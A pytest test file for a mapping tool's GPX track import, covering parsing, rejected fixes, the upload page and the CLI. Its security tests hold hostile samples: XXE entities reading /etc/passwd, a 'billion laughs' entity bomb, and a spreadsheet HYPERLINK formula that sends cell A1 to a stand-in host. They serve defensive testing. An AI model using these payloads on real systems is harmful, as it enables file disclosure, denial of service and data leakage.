"""GPX files into ``tracks``: through gridmap.io, the Data page (AppTest), ``gridmap import``."""

from __future__ import annotations

from pathlib import Path

import pandas as pd
import pytest

from gridmap._errors import ImportFileError
from gridmap.cli import main
from gridmap.io import import_file, list_parts, read_gpx, suggest_layer
from gridmap.patrol.tracks import read_track
from gridmap.store import GeoPackageStore, install_sample_workspace
from tests.test_app import run_app

PASSWD_LINE = "root:x:0:0"


def _pt(lat: object, lon: object, time: str | None = None) -> str:
    inner = f"<time>{time}</time>" if time else ""
    return f'<trkpt lat="{lat}" lon="{lon}">{inner}</trkpt>'


def _gpx(body: str, *, prolog: str = "") -> str:
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>{prolog}\n'
        '<gpx version="1.1" creator="t" xmlns="http://www.topografix.com/GPX/1/1">'
        f"{body}</gpx>"
    )


#: Two units near the sample's streets (Helsinki), a waypoint and a planned route beside
#: them, one fix at (0, 0) (a GPS without a fix) and one without a time.
NORMAL = _gpx(
    '<wpt lat="60.1700" lon="24.9400"><name>岗亭</name></wpt>'
    '<rte><rtept lat="60.17" lon="24.94"/><rtept lat="60.171" lon="24.941"/></rte>'
    "<trk><name>巡逻一组</name><trkseg>"
    + _pt(60.1700, 24.9400, "2025-11-03T08:00:00Z")
    + _pt(60.1702, 24.9404, "2025-11-03T08:00:30Z")
    + _pt(0, 0, "2025-11-03T08:01:00Z")
    + "</trkseg><trkseg>"
    + _pt(60.1704, 24.9408, "2025-11-03T08:01:30Z")
    + _pt(60.1706, 24.9410)
    + "</trkseg></trk><trk><trkseg>"  # a track without a name: the file's name is the unit
    + _pt(60.1710, 24.9420, "2025-11-03T09:00:00Z")
    + "</trkseg></trk>"
)


@pytest.fixture
def gpx_file(tmp_path: Path) -> Path:
    path = tmp_path / "night shift.gpx"
    path.write_text(NORMAL, encoding="utf-8")
    return path


def test_track_points_become_tracks_and_bad_fixes_are_reported(gpx_file: Path) -> None:
    result = import_file(gpx_file, "tracks")
    data = result.data
    assert data["unit"].tolist() == ["巡逻一组"] * 3 + ["night shift"]
    times = [
        "2025-11-03 08:00:00",
        "2025-11-03 08:00:30",
        "2025-11-03 08:01:30",
        "2025-11-03 09:00:00",
    ]
    assert data["time"].tolist() == list(pd.to_datetime(times))
    assert data.geometry.x.round(4).tolist() == [24.94, 24.9404, 24.9408, 24.942]
    # Points are numbered in file order, 1-based: the (0, 0) fix and the untimed one.
    assert result.rejected[["row", "reason"]].values.tolist() == [
        [3, "zero_coordinate"],
        [5, "missing_value"],
    ]
    notes = [str(w) for w in result.warnings]
    assert any("1 waypoints and 2 route points" in n for n in notes), notes
    assert result.source_crs == "EPSG:4326"
    assert not result.crs_ambiguous
    # The same fixes as the Patrol routes page reads: one reader behind both.
    page = read_track(gpx_file)
    assert page["unit"].tolist() == ["巡逻一组"] * 5 + ["night shift"]
    assert suggest_layer(gpx_file) == "tracks"
    assert list_parts(gpx_file) == []


def test_a_gpx_without_times_is_refused_saying_why(tmp_path: Path) -> None:
    path = tmp_path / "plan.gpx"
    path.write_text(_gpx("<trk><trkseg>" + _pt(60.17, 24.94) * 3 + "</trkseg></trk>"))
    with pytest.raises(ImportFileError) as err:
        import_file(path, "tracks")
    assert "none of the 3 track points" in str(err.value)
    assert "都没有时间" in err.value.args[0].text("zh")


def test_a_gpx_of_waypoints_only_is_refused_saying_what_it_holds(tmp_path: Path) -> None:
    path = tmp_path / "places.gpx"
    path.write_text(_gpx('<wpt lat="60.17" lon="24.94"/><wpt lat="60.18" lon="24.95"/>'))
    with pytest.raises(ImportFileError, match="only 2 waypoints and 0 route points"):
        import_file(path, "tracks")


@pytest.mark.parametrize(
    ("prolog", "encoding"),
    [
        ('<!DOCTYPE gpx [<!ENTITY x SYSTEM "file:///etc/passwd">]>', "utf-8"),  # XXE
        (
            '<!DOCTYPE gpx [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">'
            '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;">]>',
            "utf-8",
        ),  # entity expansion ("billion laughs")
        # UTF-16: a byte search for "<!DOCTYPE" would not see it; the parser does.
        ('<!DOCTYPE gpx [<!ENTITY x SYSTEM "file:///etc/passwd">]>', "utf-16"),
    ],
)
def test_a_document_type_is_refused_before_any_entity_is_read(
    tmp_path: Path, prolog: str, encoding: str
) -> None:
    path = tmp_path / "track.gpx"
    body = "<trk><name>&x;</name><trkseg>" + _pt(60.17, 24.94, "2025-11-03T08:00:00Z")
    text = _gpx(body + "</trkseg></trk>", prolog=prolog).replace("UTF-8", encoding.upper())
    path.write_bytes(text.encode(encoding))
    with pytest.raises(ImportFileError) as err:
        import_file(path, "tracks")
    assert "declares a document type" in str(err.value)
    assert "文档类型" in err.value.args[0].text("zh")
    assert PASSWD_LINE not in str(err.value)


def test_an_oversize_gpx_is_refused_before_it_is_parsed(tmp_path: Path) -> None:
    path = tmp_path / "big.gpx"
    points = _pt(60.17, 24.94, "2025-11-03T08:00:00Z") * 20_000  # ~1.1 MB
    path.write_text(_gpx(f"<trk><trkseg>{points}</trkseg></trk>"))
    with pytest.raises(ImportFileError, match="limit"):
        import_file(path, "tracks", max_bytes=1_000_000)
    with pytest.raises(ImportFileError, match="limit"):
        read_gpx(path, max_bytes=1_000_000)
    assert len(read_gpx(path, max_bytes=2_000_000).frame) == 20_000


def test_not_gpx_xml_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "map.gpx"
    path.write_text('<?xml version="1.0"?><kml><Placemark/></kml>')
    with pytest.raises(ImportFileError, match="not <gpx>"):
        import_file(path, "tracks")
    path.write_text("<gpx><trk>")
    with pytest.raises(ImportFileError, match="not a readable GPX file"):
        import_file(path, "tracks")


@pytest.fixture
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("GRIDMAP_HOME", str(tmp_path))
    monkeypatch.setenv("GRIDMAP_UPLOAD_DIR", str(tmp_path / "uploads"))
    monkeypatch.delenv("GRIDMAP_WORKSPACE", raising=False)
    install_sample_workspace(tmp_path / "sample.gpkg")
    return tmp_path


def test_the_data_page_suggests_tracks_and_commits_a_version(home: Path) -> None:
    store = GeoPackageStore(home / "sample.gpkg")
    before = len(store.history("tracks")) if "tracks" in store.layers() else 0
    app = run_app("app_pages/data.py", editor="张三")
    upload = ("夜班.gpx", NORMAL.encode(), "application/gpx+xml")
    app.file_uploader(key="upload_file").set_value(upload).run()
    assert app.session_state["upload_layer"] == "tracks"  # suggested, so pre-selected
    app.button(key="upload_check").click().run()
    assert not app.exception, [e.value for e in app.exception]
    assert [m.value for m in app.metric] == ["4", "2"]
    assert any("航点" in w.value for w in app.warning), [w.value for w in app.warning]
    app.button(key="upload_commit").click().run()
    assert not app.exception, [e.value for e in app.exception]
    history = store.history("tracks")
    assert len(history) == before + 1
    assert history[-1].author == "张三"
    assert "巡逻一组" in set(store.read("tracks")["unit"])


def test_the_data_page_says_why_a_gpx_with_a_dtd_is_not_read(home: Path) -> None:
    app = run_app("app_pages/data.py", editor="张三")
    bomb = _gpx("", prolog='<!DOCTYPE gpx [<!ENTITY x SYSTEM "file:///etc/passwd">]>')
    app.file_uploader(key="upload_file").set_value(("t.gpx", bomb.encode(), "text/xml")).run()
    app.button(key="upload_check").click().run()
    assert not app.exception, [e.value for e in app.exception]
    assert any("文档类型" in e.value for e in app.error), [e.value for e in app.error]
    assert not [b for b in app.button if b.key == "upload_commit"]


def test_gridmap_import_reads_a_gpx(
    home: Path, gpx_file: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    workspace = home / "sample.gpkg"
    args = ["-w", str(workspace), "import", str(gpx_file), "--layer", "tracks"]
    assert main([*args, "--author", "王警官"]) == 0
    assert "4 good rows, 2 rejected" in capsys.readouterr().out
    tracks = GeoPackageStore(workspace).read("tracks")
    assert {"巡逻一组", "night shift"} <= set(tracks["unit"])


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_hostile_track_name_is_neutralised_in_spreadsheet_exports(
    tmp_path: Path, fmt: str
) -> None:
    """A track's name comes from whoever made the GPX file: it reaches ``tracks.unit`` and
    from there the Data page's CSV export and the Excel workbook, never as a formula."""
    import openpyxl

    from gridmap.io import export_layer, write_xlsx

    hostile = '=HYPERLINK("http://x.invalid/?"&A1,"查看")'
    path = tmp_path / "hostile.gpx"
    path.write_text(
        _gpx(
            "<trk><name>" + hostile.replace("&", "&amp;").replace('"', "&quot;") + "</name>"
            "<trkseg>" + _pt(60.17, 24.94, "2025-11-03T08:00:00Z") + "</trkseg></trk>"
        ),
        encoding="utf-8",
    )
    tracks = import_file(path, "tracks").data
    assert tracks["unit"].tolist() == [hostile]
    if fmt == "csv":
        out = export_layer(tracks, tmp_path / "tracks.csv")
        cells = pd.read_csv(out, dtype=str, encoding="utf-8-sig")["unit"].tolist()
        assert cells == ["'" + hostile]
    else:
        table = pd.DataFrame(tracks.drop(columns="geometry"))
        out = write_xlsx({"tracks": table}, tmp_path / "t.xlsx")
        sheet = openpyxl.load_workbook(out).worksheets[0]
        header = [c.value for c in sheet[1]]
        cell = sheet.cell(row=2, column=header.index("unit") + 1)
        assert (cell.data_type, cell.value) == ("s", hostile)  # text, never a formula
